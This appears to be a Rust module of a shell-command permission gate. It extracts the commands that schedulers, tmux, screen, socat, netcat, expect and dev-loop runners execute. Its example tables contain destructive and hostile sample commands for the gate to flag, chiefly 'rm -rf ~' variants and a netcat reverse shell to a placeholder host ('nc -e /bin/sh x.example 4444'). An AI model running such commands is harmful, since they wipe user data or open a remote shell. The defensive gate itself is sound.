//! Programs that run a command given as a string, later or elsewhere:
//! schedulers (`at`, `batch`, `crontab`), terminal multiplexers (`tmux`,
//! `screen`), socket relays (`socat SYSTEM:…`, `ncat --sh-exec`), and the
//! runners of development loops (`hyperfine`, `nodemon --exec`,
//! `concurrently`, `entr`, `watchexec`). What they run is judged; what runs
//! where the gate cannot see (a multiplexer's server, a crontab) is opaque
//! (docs/permissions.md, "Fail closed").

use super::schema::{Args, Ctx, Hooks, Node, Program, Runs, Writes};
use super::support::{join, run_string, shell_stdin, value_word};
use crate::options::{self, OptionSpec};
use crate::shell::model::{Analysis, Derived, Role, Workdir};
use crate::shell::words::Word;

const fn hook(see: super::schema::SeeHook) -> Hooks {
    Hooks {
        see: Some(see),
        ..Hooks::NONE
    }
}

/// `at`'s and `batch`'s options that take a value.
const AT: OptionSpec<'static> = OptionSpec {
    short_value: "qfmtT",
    glued: "",
    value: &[],
    flags: &[],
    complete: false,
};

/// ncat's and netcat's options that take a value.
const NC: OptionSpec<'static> = OptionSpec {
    short_value: "cepswiIOopqWxXT",
    glued: "",
    value: &[
        "--sh-exec",
        "--exec",
        "--lua-exec",
        "--source",
        "--source-port",
        "--wait",
        "--idle-timeout",
        "--output",
        "--hex-dump",
        "--append-output",
        "--proxy",
        "--proxy-type",
        "--proxy-auth",
        "--allow",
        "--allowfile",
        "--deny",
        "--denyfile",
        "--max-conns",
        "--ssl-cert",
        "--ssl-key",
    ],
    flags: &[],
    complete: false,
};

const HYPERFINE: OptionSpec<'static> = OptionSpec {
    short_value: "wrmMspcSuLPnDo",
    glued: "",
    value: &[
        "--warmup",
        "--runs",
        "--min-runs",
        "--max-runs",
        "--setup",
        "--prepare",
        "--conclude",
        "--cleanup",
        "--shell",
        "--parameter-scan",
        "--parameter-step-size",
        "--parameter-list",
        "--command-name",
        "--export-asciidoc",
        "--export-csv",
        "--export-json",
        "--export-markdown",
        "--export-orgmode",
        "--output",
        "--input",
        "--style",
        "--sort",
        "--time-unit",
        "--reference",
    ],
    flags: &[],
    complete: false,
};

const CONCURRENTLY: OptionSpec<'static> = OptionSpec {
    short_value: "ncpltsmr",
    glued: "",
    value: &[
        "--names",
        "--prefix-colors",
        "--prefix",
        "--prefix-length",
        "--timestamp-format",
        "--success",
        "--max-processes",
        "--restart-tries",
        "--restart-after",
        "--name-separator",
        "--default-input-target",
        "--kill-signal",
        "--cwd",
    ],
    flags: &[
        "-k",
        "--kill-others",
        "--kill-others-on-fail",
        "--raw",
        "--no-color",
        "--hide",
        "-g",
        "--group",
        "-i",
        "--handle-input",
    ],
    complete: false,
};

/// A tmux sub-command's options: letters that take a value and those that
/// take none.
const fn tmux_spec(
    short_value: &'static str,
    flags: &'static [&'static str],
) -> OptionSpec<'static> {
    OptionSpec {
        short_value,
        glued: "",
        value: &[],
        flags,
        complete: true,
    }
}

/// tmux sub-commands whose operands are a shell command, with their options.
const TMUX_COMMANDS: &[(&[&str], OptionSpec<'static>)] = &[
    (
        &["new-session", "new"],
        tmux_spec("cefFnstxy", &["-A", "-d", "-D", "-E", "-P", "-X"]),
    ),
    (
        &["new-window", "neww"],
        tmux_spec("ceFnt", &["-a", "-b", "-d", "-k", "-P", "-S"]),
    ),
    (
        &["split-window", "splitw"],
        tmux_spec("celFt", &["-b", "-d", "-f", "-h", "-I", "-v", "-P", "-Z"]),
    ),
    (&["respawn-pane", "respawnp"], tmux_spec("cet", &["-k"])),
    (&["respawn-window", "respawnw"], tmux_spec("cet", &["-k"])),
    (&["run-shell", "run"], tmux_spec("cdt", &["-b", "-C"])),
    (
        &["display-popup", "popup"],
        tmux_spec("bcdehsStTwxy", &["-B", "-C", "-E", "-k", "-N"]),
    ),
    (&["pipe-pane", "pipep"], tmux_spec("t", &["-I", "-O", "-o"])),
];

/// Key names `send-keys` sends as keys, not text (besides `C-x`, `M-x`,
/// `S-x` and `F1`…`F20` forms, see [`is_tmux_key`]).
const TMUX_KEYS: &[&str] = &[
    "Escape", "Tab", "BTab", "BSpace", "Space", "Up", "Down", "Left", "Right", "Home", "End", "IC",
    "DC", "NPage", "PPage", "PageUp", "PageDown", "PgUp", "PgDn", "Insert", "Delete", "KP0", "KP1",
    "KP2", "KP3", "KP4", "KP5", "KP6", "KP7", "KP8", "KP9", "KP/", "KP*", "KP-", "KP+", "KP.",
];

/// Keys that enter the line typed so far.
const TMUX_ENTER: &[&str] = &["Enter", "KPEnter", "C-m", "C-j", "^M", "^J"];

/// Whether a `send-keys` word names a key rather than text to type.
fn is_tmux_key(word: &str) -> bool {
    if TMUX_KEYS.contains(&word) || TMUX_ENTER.contains(&word) {
        return true;
    }
    let mut rest = word;
    let mut modified = false;
    while let Some(r) = ["C-", "M-", "S-"].iter().find_map(|p| rest.strip_prefix(p)) {
        rest = r;
        modified = true;
    }
    if modified {
        return rest.chars().count() == 1 || is_tmux_key(rest);
    }
    word.strip_prefix('F')
        .is_some_and(|n| !n.is_empty() && n.len() <= 2 && n.bytes().all(|b| b.is_ascii_digit()))
        || (word.len() == 2 && word.starts_with('^'))
}

pub(crate) const PROGRAMS: &[Program] = &[
    Program {
        names: &["at", "batch"],
        node: Node {
            options: AT,
            hooks: hook(scheduler),
            ..Node::NONE
        },
        args: Args::Read,
        takes_command: true,
        examples: &[
            ("at now", "opaque"),
            ("at -f job.sh now", "plain"),
            ("at -l", "plain"),
        ],
        ..Program::BASE
    },
    Program {
        names: &["crontab"],
        node: Node {
            hooks: hook(crontab),
            ..Node::NONE
        },
        args: Args::Read,
        examples: &[
            ("crontab -", "opaque"),
            ("crontab jobs.txt", "opaque"),
            ("crontab -l", "plain"),
        ],
        ..Program::BASE
    },
    Program {
        names: &["socat"],
        node: Node {
            hooks: hook(socat),
            ..Node::NONE
        },
        args: Args::Read,
        takes_command: true,
        examples: &[
            ("socat TCP-LISTEN:8080 SYSTEM:'rm -rf ~'", "runs 'rm -rf ~'"),
            ("socat - EXEC:'curl x'", "runs `curl x`"),
            ("socat TCP:localhost:80 -", "plain"),
        ],
        ..Program::BASE
    },
    Program {
        names: &["ncat", "nc", "netcat", "nc.openbsd", "nc.traditional"],
        node: Node {
            options: NC,
            runs: &[Runs::OptionCommand(&["-c", "--sh-exec", "-e", "--exec"])],
            writes: &[Writes::OptionValue(&[
                "-o",
                "--output",
                "-x",
                "--hex-dump",
                "--append-output",
            ])],
            hooks: hook(lua_exec),
            ..Node::NONE
        },
        args: Args::Read,
        examples: &[
            ("ncat -l 4444 --sh-exec 'rm -rf ~'", "runs 'rm -rf ~'"),
            ("nc -e /bin/sh x.example 4444", "runs '/bin/sh'"),
            ("nc -z localhost 8080", "plain"),
        ],
        ..Program::BASE
    },
    Program {
        names: &["tmux"],
        node: Node {
            hooks: hook(tmux),
            ..Node::NONE
        },
        args: Args::Read,
        takes_command: true,
        examples: &[
            ("tmux new-session -d 'rm -rf ~'", "runs 'rm -rf ~'; cwd ?"),
            (
                "tmux send-keys -t x 'git push' Enter",
                "runs 'git push'; cwd ?",
            ),
            (
                "tmux send-keys -t x 'git pu' 'sh' C-m",
                "runs 'git push'; cwd ?",
            ),
            (
                "tmux send-keys -t x 'ls' Enter 'rm -rf ~'",
                "runs 'ls'; types 'rm -rf ~'; cwd ?",
            ),
            ("tmux send-keys -l -t x 'make\n'", "runs 'make'; cwd ?"),
            ("tmux send-keys -t x ':wq' Escape", "types ':wq'; cwd ?"),
            ("tmux send-keys -t x C-c", "plain"),
            ("tmux send-keys -X -t x cancel", "plain"),
            ("tmux new-session -d -s work", "plain"),
            ("tmux if-shell true 'run-shell x'", "opaque"),
            ("tmux ls", "plain"),
        ],
        ..Program::BASE
    },
    Program {
        names: &["screen"],
        node: Node {
            hooks: hook(screen),
            ..Node::NONE
        },
        args: Args::Read,
        takes_command: true,
        examples: &[
            ("screen -dmS x rm -rf ~", "runs `rm -rf ~`"),
            ("screen -S x -X stuff 'make'", "runs 'make'; cwd ?"),
            ("screen -ls", "plain"),
        ],
        ..Program::BASE
    },
    Program {
        names: &["systemctl"],
        node: Node {
            hooks: Hooks {
                writes: Some(systemctl_writes),
                ..Hooks::NONE
            },
            ..Node::NONE
        },
        args: Args::Read,
        examples: &[
            (
                "systemctl --user enable ./x.service",
                "writes ~/.config/systemd/user/$(unit)",
            ),
            ("systemctl --user status x", "plain"),
        ],
        ..Program::BASE
    },
    Program {
        names: &["expect"],
        node: Node {
            hooks: hook(expect),
            ..Node::NONE
        },
        args: Args::Read,
        takes_command: true,
        examples: &[
            ("expect -c 'spawn git push'", "opaque; runs 'git push'"),
            ("expect", "opaque"),
            ("expect login.exp", "plain"),
        ],
        ..Program::BASE
    },
    Program {
        names: &["hyperfine"],
        node: Node {
            options: HYPERFINE,
            runs: &[
                Runs::Lines,
                Runs::OptionCommand(&[
                    "-p",
                    "--prepare",
                    "-s",
                    "--setup",
                    "-c",
                    "--cleanup",
                    "--conclude",
                ]),
            ],
            writes: &[Writes::OptionValue(&[
                "--export-asciidoc",
                "--export-csv",
                "--export-json",
                "--export-markdown",
                "--export-orgmode",
                "--output",
            ])],
            ..Node::NONE
        },
        args: Args::Read,
        examples: &[
            (
                "hyperfine -w 3 'make a' 'rm -rf ~'",
                "runs 'make a'; runs 'rm -rf ~'",
            ),
            (
                "hyperfine --prepare 'rm -rf x' true",
                "runs 'true'; runs 'rm -rf x'",
            ),
        ],
        ..Program::BASE
    },
    Program {
        names: &["nodemon"],
        node: Node {
            options: OptionSpec {
                short_value: "xwiedV",
                value: &[
                    "--exec", "--watch", "--ignore", "--ext", "--delay", "--signal", "--config",
                ],
                ..OptionSpec::NONE
            },
            runs: &[Runs::OptionCommand(&["-x", "--exec"])],
            ..Node::NONE
        },
        args: Args::Read,
        examples: &[
            ("nodemon --exec 'rm -rf ~' app.js", "runs 'rm -rf ~'"),
            ("nodemon -w src app.js", "plain"),
        ],
        ..Program::BASE
    },
    Program {
        names: &["concurrently"],
        node: Node {
            options: CONCURRENTLY,
            runs: &[Runs::Lines],
            ..Node::NONE
        },
        args: Args::Read,
        examples: &[(
            "concurrently -k 'npm run watch' 'rm -rf ~'",
            "runs 'npm run watch'; runs 'rm -rf ~'",
        )],
        ..Program::BASE
    },
    Program {
        names: &["entr"],
        node: Node {
            hooks: hook(entr),
            ..Node::NONE
        },
        args: Args::Read,
        takes_command: true,
        examples: &[
            ("entr -s 'rm -rf ~'", "runs 'rm -rf ~'"),
            ("entr -c make test", "runs `make test`"),
        ],
        ..Program::BASE
    },
    Program {
        names: &["watchexec"],
        node: Node {
            options: OptionSpec {
                short_value: "wexirsd",
                value: &[
                    "--watch",
                    "--exts",
                    "--ignore",
                    "--shell",
                    "--signal",
                    "--debounce",
                    "--filter",
                    "--workdir",
                    "--env",
                    "--on-busy-update",
                ],
                ..OptionSpec::NONE
            },
            runs: &[Runs::Line { skip: 0 }],
            ..Node::NONE
        },
        args: Args::Read,
        examples: &[("watchexec -e rs -- cargo test", "runs 'cargo test'")],
        ..Program::BASE
    },
];

/// `at TIME` and `batch` read the job from standard input (a shell script),
/// unless `-f FILE` names it (the file's business, as for `sh FILE`).
fn scheduler(c: &Ctx<'_>, _: Option<usize>, a: &mut Analysis) -> Option<usize> {
    let args = &c.words[c.at..];
    let file = !options::values(args, &AT, &["-f"]).is_empty();
    let lists = options::flagged(args, &AT, &["-l", "-r", "-d", "-c", "-V"]);
    if !file && !lists {
        shell_stdin(c.name, c.redirs, Role::Checked, false, a);
    }
    None
}

/// `crontab FILE` or `crontab -` installs jobs cron runs later, outside
/// the call: what they run the gate cannot judge; `-l` lists, `-r` removes.
fn crontab(c: &Ctx<'_>, _: Option<usize>, a: &mut Analysis) -> Option<usize> {
    let args = &c.words[c.at..];
    let spec = OptionSpec {
        short_value: "u",
        ..OptionSpec::NONE
    };
    let installs = !options::operands(args, &spec).is_empty()
        || args.iter().any(|w| w.text == "-")
        || options::flagged(args, &spec, &["-e"])
        || args.is_empty();
    if installs {
        a.dynamic = Some("`crontab` installs jobs that run later, outside the call".into());
    }
    None
}

/// socat's addresses `SYSTEM:CMD` (a shell line) and `EXEC:CMD` (a program
/// and its words), in any case, with options after a comma.
fn socat(c: &Ctx<'_>, _: Option<usize>, a: &mut Analysis) -> Option<usize> {
    for w in &c.words[c.at..] {
        let t = w.text.as_str();
        let Some((kind, rest)) = t.split_once(':') else {
            continue;
        };
        let kind = kind.to_ascii_lowercase();
        if kind != "system" && kind != "exec" {
            continue;
        }
        // Address options follow a comma outside quotes: `SYSTEM:'cmd',pty`.
        let cmd = rest.split(",pty").next().unwrap_or(rest);
        let mut v = w.clone();
        v.text = cmd.to_string();
        if kind == "system" {
            run_string(&v, c.role, "`socat SYSTEM:`", a);
        } else if w.dynamic {
            a.dynamic = Some("`socat EXEC:` runs a program only known when it runs".into());
        } else {
            let ws: Vec<Word> = cmd.split_whitespace().map(Word::raw).collect();
            if !ws.is_empty() {
                a.derived.push(Derived::Words(ws, c.role));
            }
        }
    }
    None
}

/// `ncat --lua-exec FILE` runs a Lua script: the gate does not read it.
fn lua_exec(c: &Ctx<'_>, start: Option<usize>, a: &mut Analysis) -> Option<usize> {
    if !options::values(&c.words[c.at..], &NC, &["--lua-exec"]).is_empty() {
        a.dynamic = Some("`ncat --lua-exec` runs a Lua script".into());
    }
    start
}

/// tmux: what its sub-commands run (a shell command after their options,
/// the text `send-keys` types into a pane's shell, `tmux -c CMD`) is judged,
/// in a folder the gate cannot place (the pane's); commands tmux reads as its
/// own language (`if-shell`'s branches, `source-file`, `command-prompt`)
/// are opaque.
/// `systemctl --user enable|link|edit|…` writes the user's units under
/// ~/.config/systemd/user (which systemd runs at the next login or timer).
fn systemctl_writes(v: &super::schema::Argv<'_>, out: &mut Vec<crate::shell::model::Target>) {
    const WRITES: &[&str] = &[
        "enable",
        "reenable",
        "link",
        "edit",
        "preset",
        "preset-all",
        "add-wants",
        "add-requires",
        "set-property",
        "mask",
        "unmask",
        "revert",
        "set-default",
        "disable",
        "set-environment",
        "import-environment",
    ];
    let args = v.args();
    if !args.iter().any(|a| a == "--user") {
        return;
    }
    if args
        .iter()
        .find(|a| !a.starts_with('-'))
        .is_some_and(|sub| WRITES.contains(&sub.as_str()))
    {
        out.push(crate::shell::model::Target::new(
            "~/.config/systemd/user/$(unit)",
            true,
        ));
    }
}

/// `expect -c SCRIPT` runs Tcl (its `spawn` and `exec` start programs);
/// with no script file, or `-` / `-f -` / `-i`, it reads its script from
/// standard input: opaque either way, and a given script is judged as a
/// command string too (deny rules, ask rules, caps).
fn expect(c: &Ctx<'_>, _: Option<usize>, a: &mut Analysis) -> Option<usize> {
    let args = &c.words[c.at.min(c.words.len())..];
    let mut k = 0;
    let mut script = false;
    while k < args.len() {
        let t = args[k].text.as_str();
        match t {
            "-c" => {
                a.dynamic = Some("`expect -c` runs a script the gate does not read".into());
                if let Some(v) = args.get(k + 1) {
                    let body = v.text.trim_start().trim_start_matches("spawn ");
                    if !body.trim().is_empty() {
                        a.derived
                            .push(Derived::Source(body.to_string(), Role::Checked));
                    }
                }
                k += 2;
            }
            "-f" => {
                script |= args.get(k + 1).is_some_and(|w| w.text != "-");
                k += 2;
            }
            "-i" | "-" => {
                script = false;
                break;
            }
            "--" => {
                script = args.get(k + 1).is_some_and(|w| w.text != "-");
                break;
            }
            _ if t.starts_with('-') => k += 1,
            _ => {
                script = true;
                break;
            }
        }
    }
    if !script {
        for r in c.redirs {
            if let Some(Some(text)) = &r.feed {
                for line in text.lines() {
                    let body = line.trim_start().trim_start_matches("spawn ");
                    if !body.trim().is_empty() {
                        a.derived
                            .push(Derived::Source(body.to_string(), Role::Checked));
                    }
                }
            }
        }
    }
    if !script && a.dynamic.is_none() {
        a.dynamic =
            Some("`expect` reads its script from standard input, which the gate cannot see".into());
    }
    None
}

fn tmux(c: &Ctx<'_>, _: Option<usize>, a: &mut Analysis) -> Option<usize> {
    let args = &c.words[c.at..];
    let spec = OptionSpec {
        short_value: "cfLST",
        ..OptionSpec::NONE
    };
    for v in options::values(args, &spec, &["-c"]) {
        run_string(&value_word(args, &v), c.role, "`tmux -c`", a);
    }
    // A format's `#(CMD)` runs CMD in a shell (`display -p`, `set
    // status-right`, any sub-command that expands a format).
    for w in args.iter().filter(|w| w.text.contains("#(")) {
        a.dynamic = Some("`tmux` expands a format whose `#(…)` runs a shell command".into());
        for cmd in w.text.split("#(").skip(1) {
            let body = cmd.rsplit_once(')').map_or(cmd, |(b, _)| b);
            if !body.trim().is_empty() {
                a.derived
                    .push(Derived::Source(body.to_string(), Role::Checked));
            }
        }
    }
    // Every sub-command of a `\;`-separated sequence.
    let mut k = options::scan(args, 0, &spec).start;
    while k < args.len() {
        let end = args[k..]
            .iter()
            .position(|w| w.text == ";" || w.text == "\\;")
            .map_or(args.len(), |n| k + n);
        tmux_sub(c, &args[k..end], a);
        k = end + 1;
    }
    None
}

/// One tmux sub-command (its name first).
fn tmux_sub(c: &Ctx<'_>, sub: &[Word], a: &mut Analysis) {
    let Some(name) = sub.first().map(|w| w.text.as_str()) else {
        return;
    };
    let rest = &sub[1..];
    if let Some((_, spec)) = TMUX_COMMANDS.iter().find(|(n, _)| n.contains(&name)) {
        let start = options::scan(rest, 0, spec).start;
        if start < rest.len() {
            a.move_to(Workdir::Unknown);
            typed(c, &rest[start..], "`tmux`", a);
        }
        return;
    }
    match name {
        "send-keys" | "send" => send_keys(c, rest, a),
        "if-shell" | "if" | "source-file" | "source" | "command-prompt" | "confirm-before" => {
            a.dynamic = Some(format!(
                "`tmux {name}` runs tmux commands the gate does not read"
            ));
        }
        _ => {}
    }
}

/// `tmux send-keys`: each line its keys type and enter (text before
/// `Enter`, `C-m`…, or a newline in the text) is judged as a command the
/// pane's shell runs, in a folder the gate cannot place; text typed but not
/// entered meets deny rules, ask rules and caps (it runs when a later key
/// enters it). `-X` sends copy-mode commands, `-l` types every word as text.
fn send_keys(c: &Ctx<'_>, rest: &[Word], a: &mut Analysis) {
    let spec = tmux_spec("cNt", &["-F", "-H", "-K", "-l", "-M", "-R", "-X"]);
    if options::flagged(rest, &spec, &["-X"]) {
        return;
    }
    let literal = options::flagged(rest, &spec, &["-l"]);
    let start = options::scan(rest, 0, &spec).start;
    let Some(first) = rest.get(start) else {
        return;
    };
    // The words are typed one after another, nothing between them.
    let mut line = first.clone();
    line.text.clear();
    line.dynamic = false;
    let entered = |line: &mut Word, a: &mut Analysis| {
        if !line.text.trim().is_empty() {
            a.move_to(Workdir::Unknown);
            run_string(line, c.role, "`tmux send-keys`", a);
        }
        line.text.clear();
        line.dynamic = false;
    };
    for w in &rest[start..] {
        let t = w.text.as_str();
        if !literal && TMUX_ENTER.contains(&t) {
            entered(&mut line, a);
        } else if literal || !is_tmux_key(t) {
            line.text.push_str(t);
            line.dynamic |= w.dynamic;
        }
    }
    // A newline in the text enters what comes before it.
    let text = std::mem::take(&mut line.text);
    let (done, open) = text.rsplit_once('\n').unwrap_or(("", &text));
    line.text = done.to_string();
    entered(&mut line, a);
    if !open.trim().is_empty() {
        a.move_to(Workdir::Unknown);
        a.derived.push(Derived::Typed(open.to_string()));
    }
}

/// Words a program runs as one shell line (or types into a shell).
fn typed(c: &Ctx<'_>, words: &[Word], what: &str, a: &mut Analysis) {
    let mut w = words[0].clone();
    w.text = join(words, "");
    w.dynamic = words.iter().any(|x| x.dynamic);
    run_string(&w, c.role, what, a);
}

/// `screen [-dmS NAME] CMD ARGS…` runs CMD (in a session of its own);
/// `-X stuff TEXT` types TEXT into its shell, `-X exec CMD` runs CMD.
fn screen(c: &Ctx<'_>, _: Option<usize>, a: &mut Analysis) -> Option<usize> {
    let args = &c.words[c.at..];
    let spec = OptionSpec {
        short_value: "cehpSsTtX",
        flags: &[
            "-a", "-A", "-d", "-D", "-f", "-i", "-l", "-L", "-m", "-O", "-q", "-r", "-R", "-U",
            "-v", "-w", "-x", "-4", "-6", "-ls", "-list",
        ],
        complete: true,
        ..OptionSpec::NONE
    };
    let start = options::scan(args, 0, &spec).start;
    let remote = options::values(args, &spec, &["-X"]);
    if let Some(v) = remote.first() {
        let cmd = v.text.as_str();
        let after = &args[(v.at + 1).min(args.len())..];
        match cmd {
            "stuff" if !after.is_empty() => {
                let mut w = after[0].clone();
                w.text = after
                    .iter()
                    .map(|x| x.text.replace("\\n", "\n").replace("^M", "\n"))
                    .collect::<Vec<_>>()
                    .join(" ");
                a.move_to(Workdir::Unknown);
                run_string(&w, c.role, "`screen -X stuff`", a);
            }
            "exec" | "screen" if !after.is_empty() => {
                a.move_to(Workdir::Unknown);
                a.derived.push(Derived::Words(after.to_vec(), c.role));
            }
            "source" | "eval" | "bind" | "bindkey" => {
                a.dynamic = Some(format!(
                    "`screen -X {cmd}` runs screen commands the gate does not read"
                ));
            }
            _ => {}
        }
        return None;
    }
    if start < args.len() {
        a.derived
            .push(Derived::Words(args[start..].to_vec(), c.role));
    }
    None
}

/// `entr -s 'CMD'`: a shell line; else its operands are the command.
fn entr(c: &Ctx<'_>, _: Option<usize>, a: &mut Analysis) -> Option<usize> {
    let spec = OptionSpec {
        flags: &["-a", "-c", "-d", "-n", "-p", "-r", "-s", "-z"],
        complete: true,
        ..OptionSpec::NONE
    };
    let start = options::scan(c.words, c.at, &spec).start;
    let shell = options::flagged(&c.words[c.at..start], &spec, &["-s"]);
    if start >= c.words.len() {
        return None;
    }
    if shell {
        let line = join(&c.words[start..], "");
        let mut w = c.words[start].clone();
        w.text = line;
        w.dynamic = c.words[start..].iter().any(|x| x.dynamic);
        run_string(&w, c.role, "`entr -s`", a);
        return None;
    }
    Some(start)
}
